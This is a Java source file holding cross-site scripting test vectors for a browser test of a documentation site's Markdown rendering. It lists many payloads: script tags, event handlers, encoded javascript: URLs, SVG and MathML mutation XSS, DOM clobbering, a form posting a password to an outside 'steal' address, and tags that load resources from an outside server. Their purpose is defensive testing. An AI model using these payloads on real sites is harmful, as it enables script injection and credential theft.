package dev.playbook.browser;

import java.util.List;

/**
 * Cross-site scripting vectors for {@link XssVectorsBrowserTest}: the categories of the OWASP XSS
 * filter-evasion cheat sheet, mutation XSS against sanitizers, the ones issue 13 measured, and
 * requests that would leave the site. {@code JS} stands for the payload (it marks the page when it
 * runs), {@code OUT} for the address of a server outside the site ({@code http://127.0.0.1:port}),
 * {@code OUTHOST} for the same without its scheme.
 */
final class XssVectors {

    /** Marks the page (and the top page, from a frame) when it runs: no quotes or spaces, so it fits every context. */
    static final String PAYLOAD = "top.document.title=1337";
    static final String MARK = "1337";

    private XssVectors() {
    }

    /** Raw HTML, each written as a block of its own in a Markdown page. */
    static final List<String> HTML_BLOCKS = List.of(
            // Scripts, as written and disguised
            "<script>JS</script>",
            "<SCRIPT SRC=OUT/xss.js></SCRIPT>",
            "<script src=\"data:text/javascript,JS\"></script>",
            "<SCRIPT/XSS SRC=\"OUT/xss2.js\"></SCRIPT>",
            "<<SCRIPT>JS;//<</SCRIPT>",
            "<SCRIPT SRC=OUTHOST/xss3.js?<B>",
            "<script>/*</script><img src=x onerror=JS>*/</script>",
            // Images and their handlers
            "<img src=x onerror=\"JS\">",
            "<IMG SRC=\"javascript:JS;\">",
            "<IMG SRC=JaVaScRiPt:JS>",
            "<IMG SRC=`javascript:JS`>",
            "<IMG SRC=\"jav\tascript:JS;\">",
            "<IMG SRC=\"jav&#x09;ascript:JS;\">",
            "<IMG SRC=\"jav&#x0A;ascript:JS;\">",
            "<IMG SRC=\" &#14;  javascript:JS;\">",
            "<IMG SRC=# onmouseover=\"JS\">",
            "<img \"\"\"><script>JS</script>\">",
            "<IMG DYNSRC=\"javascript:JS\">",
            "<IMG LOWSRC=\"javascript:JS\">",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<img src=\"OUT/tracker.png\">",
            "<img src=\"OUTHOST/protocol-relative.png\">",
            "<img src=\"a.png\" srcset=\"OUT/srcset.png 1x, OUT/srcset2.png 2x\">",
            "<picture><source srcset=\"OUT/picture.png\"><img src=\"b.png\"></picture>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLmRvY3VtZW50LnRpdGxlPTEzMzciLz4=\">",
            // Links with script URLs: entities, whitespace and control characters browsers ignore
            "<a href=\"javascript:JS\">a-plain</a>",
            "<a href=\"JaVaScRiPt:JS\">a-case</a>",
            "<a href=\"java&#x09;script:JS\">a-tab</a>",
            "<a href=\"java&#10;script:JS\">a-newline</a>",
            "<a href=\"java&#13;script:JS\">a-return</a>",
            "<a href=\" &#14; javascript:JS\">a-control</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS\">a-decimal</a>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058JS\">a-padded</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;JS\">a-hex</a>",
            "<a href=\"javascript&colon;JS\">a-colon-entity</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9MTMzNzwvc2NyaXB0Pg==\">a-data</a>",
            "<a href=\"vbscript:msgbox(1)\">a-vbscript</a>",
            "<a href=\"#\" onclick=\"JS\">a-onclick</a>",
            "<a id=\"location\" href=\"OUT/clobbered\">a-clobber</a>",
            // Frames: srcdoc, script and data sources, other sites
            "<iframe srcdoc=\"&lt;script&gt;parent.document.title=1337&lt;/script&gt;\"></iframe>",
            "<iframe src=\"javascript:JS\"></iframe>",
            "<iframe src=\"data:text/html,&lt;script&gt;JS&lt;/script&gt;\"></iframe>",
            "<iframe src=\"OUT/frame.html\" title=\"Outside frame\"></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" title=\"Training video\"></iframe>",
            "<frameset onload=JS><frame src=\"OUT/frame2.html\"></frameset>",
            // SVG: handlers, scripts, animation of links, foreign content, styles
            "<svg onload=JS>",
            "<svg><script>JS</script></svg>",
            "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
            "<svg><a><animate attributeName=href values=javascript:JS /><text x=20 y=20>svg-animate</text></a></svg>",
            "<svg><a><set attributeName=href to=javascript:JS /><text x=20 y=20>svg-set</text></a></svg>",
            "<svg><a xlink:href=\"javascript:JS\"><text x=20 y=20>svg-xlink</text></a></svg>",
            "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.document.title=1337&lt;/script&gt;\"></iframe></foreignObject></svg>",
            "<svg><image href=\"OUT/svg-image.png\"/></svg>",
            "<svg><style>@import url(OUT/svg-style.css);</style></svg>",
            "<svg><style><img src=x onerror=JS></style></svg>",
            "<svg><set onbegin=JS attributeName=x to=1>",
            // MathML and mutation XSS against sanitizers
            "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
            "<math href=\"javascript:JS\">math-href</math>",
            "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:JS\">math-action</maction></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
            "<noscript><p title=\"</noscript><img src=x onerror=JS>\"></noscript>",
            "<xmp><img src=x onerror=JS></xmp>",
            "<template><img src=x onerror=JS></template>",
            "<noembed><img title=\"</noembed><img src=x onerror=JS>\"></noembed>",
            "<title><img src=x onerror=JS></title>",
            "<textarea><img title=\"</textarea><img src=x onerror=JS>\"></textarea>",
            "<!--<img src=\"--><img src=x onerror=JS//\">",
            // Handlers that fire on their own
            "<body onload=JS>",
            "<details open ontoggle=JS>",
            "<input autofocus onfocus=JS>",
            "<select autofocus onfocus=JS></select>",
            "<textarea autofocus onfocus=JS></textarea>",
            "<keygen autofocus onfocus=JS>",
            "<video><source onerror=\"JS\"></video>",
            "<audio src=x onerror=JS>",
            "<marquee onstart=JS>m</marquee>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=JS>",
            "<div onmouseover=\"JS\">hover</div>",
            "<object data=\"javascript:JS\"></object>",
            // Requests out: media, styles, imports, prefetches, plugins, backgrounds
            "<video poster=\"OUT/poster.png\"></video>",
            "<video src=\"OUT/video.mp4\" autoplay></video>",
            "<link rel=import href=\"OUT/import.html\">",
            "<link rel=stylesheet href=\"OUT/style.css\">",
            "<link rel=prefetch href=\"OUT/prefetch\">",
            "<style>@import 'OUT/import.css';</style>",
            "<style>body{background:url(OUT/background.png)}</style>",
            "<div style=\"background-image:url(OUT/div.png)\">div-style</div>",
            "<div style=\"width: expression(JS);\">expression</div>",
            "<p style=\"text-align:center;background:url(OUT/centred.png)\">centred</p>",
            "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'OUT/escaped.png'\\0029\">css-escapes</DIV>",
            "<XSS STYLE=\"behavior: url(xss.htc);\">",
            "<table background=\"OUT/table.png\"><tr><td background=\"OUT/td.png\">t</td></tr></table>",
            "<object data=\"OUT/object.swf\"></object>",
            "<object type=\"text/x-scriptlet\" data=\"OUT/scriptlet.html\"></object>",
            "<embed src=\"OUT/embed.swf\">",
            "<embed src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLmRvY3VtZW50LnRpdGxlPTEzMzciLz4=\">",
            "<applet code=\"x\" codebase=\"OUT/\"></applet>",
            "<BGSOUND SRC=\"javascript:JS;\">",
            "<LAYER SRC=\"OUT/layer.html\"></LAYER>",
            "<portal src=\"OUT/portal\"></portal>",
            // The document around the content: refresh, base, policy, forms
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:JS;\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=OUT/refresh\">",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">",
            "<base href=\"OUT/\"><img src=\"based.png\">",
            "<form action=\"OUT/steal\"><input type=password name=p value=secret><button>Sign in</button></form>",
            "<form><button formaction=\"javascript:JS\">formaction</button></form>",
            "<isindex action=\"javascript:JS\" type=image>",
            // DOM clobbering of the theme's globals and of document properties
            "<div id=\"PlaybookSearch\">clobber-global</div>",
            "<img name=\"cookie\" src=\"c.png\"><form name=\"querySelector\"></form>");

    /** Inline HTML and Markdown syntax, each on a line of its own inside a paragraph. */
    static final List<String> MARKDOWN = List.of(
            "Inline <img src=x onerror=JS> image.",
            "Inline <a href=\"java&#x09;script:JS\">tab link</a>.",
            "Inline <span style=\"background:url(OUT/span.png)\">span</span>.",
            "[md-link](javascript:JS)",
            "[md-link-case](JAVASCRIPT:JS)",
            "[md-link-data](data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9MTMzNzwvc2NyaXB0Pg==)",
            "![md-image](OUT/md-image.png)",
            "<javascript:JS>",
            "[md-ref][xss-ref]\n\n[xss-ref]: javascript:JS",
            "## Heading with attributes {onclick=\"JS\" style=\"background:url(OUT/heading.png)\"}",
            "`<img src=x onerror=JS>` shown as code, and found by search");
}
